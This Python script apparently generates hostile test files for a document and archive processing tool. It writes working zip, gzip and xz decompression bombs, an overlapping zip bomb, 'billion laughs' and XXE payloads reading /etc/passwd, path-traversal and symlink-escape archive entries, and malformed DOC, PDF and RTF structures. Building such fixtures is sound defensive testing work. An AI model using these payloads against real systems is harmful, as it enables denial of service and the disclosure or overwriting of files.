#!/usr/bin/env python3
"""Files that mean harm, or could: hostile.py DIRECTORY writes them all."""
import gzip
import io
import lzma
import os
import struct
import sys
import tarfile
import zipfile
import zlib

MEGABYTE = 1 << 20
OUT = sys.argv[1]


def write(name, data):
    with open(os.path.join(OUT, name), "wb") as file:
        file.write(data)


def zipped(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


def zeros(count, opener):
    """So many megabytes of zeros, compressed."""
    out = io.BytesIO()
    with opener(out) as file:
        for _ in range(count):
            file.write(b"a" * MEGABYTE)
    return out.getvalue()


def local(name, crc, compressed, size):
    return struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 8, 0, 0x5af, crc,
                       compressed, size, len(name), 0) + name


def overlap(count, size):
    """Each file's stream quotes the headers of those behind it and ends in
    the one stream of zeros that all share."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    stream = squeeze.compress(bytes(size)) + squeeze.flush()
    plain = bytes(size)
    crc, length = zlib.crc32(plain), size
    body, entries = b"", []
    for i in reversed(range(count)):
        name = b"%d.txt" % i
        header = local(name, crc, len(stream) + len(body), length)
        entries.append((name, crc, len(stream) + len(body), length,
                        len(header) + len(body)))
        # The stream of the file before: this header, stored, and on.
        body = (struct.pack("<BHH", 0, len(header), 0xffff ^ len(header)) +
                header + body)
        plain = header + plain
        crc, length = zlib.crc32(plain), len(plain)
    body = body[5:]
    total = len(body) + len(stream)
    central = b""
    for name, crc, packed, length, behind in entries:
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, 8,
                               0, 0x5af, crc, packed, length, len(name), 0, 0,
                               0, 0, 0, total - len(stream) - behind) + name
    end = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, count, count,
                      len(central), total, 0)
    return body + stream + central + end


def document(xml, kind="word/document.xml"):
    return zipped([("[Content_Types].xml", "<Types/>"), (kind, xml)])


def pdf(pages):
    objects = [b"<</Type/Catalog/Pages 2 0 R>>",
               b"<</Type/Pages/Count %d/Kids[%s]>>" % (pages, b" ".join(
                   b"%d 0 R" % (4 + 2 * i) for i in range(pages))),
               b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"]
    for i in range(pages):
        text = b"BT /F 12 Tf 50 700 Td (Page %d of many) Tj ET" % (i + 1)
        objects.append(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]"
                       b"/Resources<</Font<</F 3 0 R>>>>/Contents %d 0 R>>" %
                       (5 + 2 * i))
        objects.append(b"<</Length %d>>stream\n%s\nendstream" %
                       (len(text), text))
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % at for at in offsets)
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, start)
    return bytes(out)


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
LAUGHS = "".join('<!ENTITY l%d "%s">' % (i + 1, "&l%d;" % i * 10)
                 for i in range(9))


def bombs():
    big = zeros(100, lambda out: gzip.GzipFile(fileobj=out, mode="wb"))
    write("bomb.gz", big)
    write("bomb.xz", zeros(100, lambda out: lzma.LZMAFile(out, "wb")))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("zeros.txt", "w") as member:
            for _ in range(100):
                member.write(b"a" * MEGABYTE)
    write("bomb.zip", out.getvalue())
    inner = zipped([("%d.txt" % i, bytes(8 * MEGABYTE)) for i in range(4)])
    write("wide.zip", zipped([("%d.zip" % i, inner) for i in range(50)]))
    deep = zipped([("core.txt", "The core.")])
    for i in range(9):
        deep = zipped([("%d.zip" % i, deep)])
    write("deep.zip", deep)
    write("overlap.zip", overlap(250, 2 * MEGABYTE))
    write("many.zip", zipped([("%d.txt" % i, "x") for i in range(3000)]))
    with zipfile.ZipFile(os.path.join(OUT, "bomb.docx"), "w",
                         zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w") as member:
            member.write(("<w:document %s>" % W).encode())
            for _ in range(100):
                member.write(b" " * MEGABYTE)


def xml():
    laughs = '<!DOCTYPE x [<!ENTITY l0 "ha">%s]>' % LAUGHS
    write("laughs.xml", ('<?xml version="1.0"?>%s<x>&l9;</x>' %
                         laughs).encode())
    write("laughs.docx", document(
        '<?xml version="1.0"?>%s<w:document %s><w:body><w:p><w:r><w:t>&l9;'
        "</w:t></w:r></w:p></w:body></w:document>" % (laughs, W)))
    write("outside.docx", document(
        '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
        "<w:document %s><w:body><w:p><w:r><w:t>&f;</w:t></w:r></w:p></w:body>"
        "</w:document>" % W))
    write("nested.docx", document(
        "<w:document %s>%s%s</w:document>" %
        (W, "<w:p>" * 100000, "</w:p>" * 100000)))
    cells = "".join('<row><c t="s"><v>0</v></c></row>' for _ in range(100000))
    write("repeated.xlsx", zipped([
        ("[Content_Types].xml", "<Types/>"),
        ("xl/workbook.xml",
         '<workbook xmlns:r="r"><sheets><sheet name="S" r:id="a"/></sheets>'
         "</workbook>"),
        ("xl/_rels/workbook.xml.rels",
         '<Relationships><Relationship Id="a" Target="worksheets/s.xml"/>'
         "</Relationships>"),
        ("xl/sharedStrings.xml", "<sst><si><t>%s</t></si></sst>" %
         ("word " * 200000)),
        ("xl/worksheets/s.xml",
         "<worksheet><sheetData>%s</sheetData></worksheet>" % cells)]))


def names():
    data = zipped([("../../etc/passwd", "climbed"), ("/etc/shadow", "rooted"),
                   ("C:\\Windows\\x.txt", "drive"), ("l" * 60000 + ".txt",
                                                    "long"),
                   ("new\nline.txt", "line"), ("n?l.txt", "zero")])
    write("names.zip", data.replace(b"n?l.txt", b"n\0l.txt"))
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        tar.addfile(link)
        file = tarfile.TarInfo("link/../../x.txt")
        file.size = 7
        tar.addfile(file, io.BytesIO(b"climbed"))
        device = tarfile.TarInfo("device")
        device.type = tarfile.CHRTYPE
        tar.addfile(device)
    write("links.tar", out.getvalue())


def compound(count, link):
    """A compound file whose entries hang on each other by one link: one byte
    offset of an entry's left, right or child."""
    sector, none, end = 4096, 0xffffffff, 0xfffffffe
    directory = bytearray()
    for i in range(count):
        name = ("Root Entry" if i == 0 else "n%d" % i).encode("utf-16le")
        entry = bytearray(128)
        entry[:len(name)] = name
        struct.pack_into("<HBB3I", entry, 64, len(name) + 2,
                         5 if i == 0 else 1, 1, none, none, none)
        struct.pack_into("<I", entry, link if i > 0 else 76,
                         i + 1 if i + 1 < count else none)
        directory += entry
    directory += bytes(-len(directory) % sector)
    parts = len(directory) // sector
    fats = (parts + 1023) // 1023
    fat = [0xfffffffd] * fats + [fats + 1 + i for i in range(parts)]
    fat[-1] = end
    fat += [none] * (fats * 1024 - len(fat))
    header = bytearray(sector)
    header[:8] = bytes.fromhex("d0cf11e0a1b11ae1")
    struct.pack_into("<5H", header, 24, 0x3e, 4, 0xfffe, 12, 6)
    struct.pack_into("<10I", header, 40, parts, fats, fats, 0, 4096, end, 0,
                     end, 0, 0)
    for i in range(109):
        struct.pack_into("<I", header, 76 + 4 * i, i if i < fats else none)
    return bytes(header) + struct.pack("<%dI" % len(fat), *fat) + directory


def others():
    write("siblings.doc", compound(100000, 72))
    write("children.doc", compound(100000, 76))
    write("pages.pdf", pdf(10000))
    write("braces.rtf", b"{\\rtf1 " + b"{" * 1000000)
    write("binary.rtf", b"{\\rtf1 before \\bin2000000000 after}")
    write("wide.rtf", b"{\\rtf1 " + b"\\u-10179?\\'e9\\uc100000 " * 20000 +
          b" end}")
    write("empty.zip", zipped([]))


bombs()
xml()
names()
others()
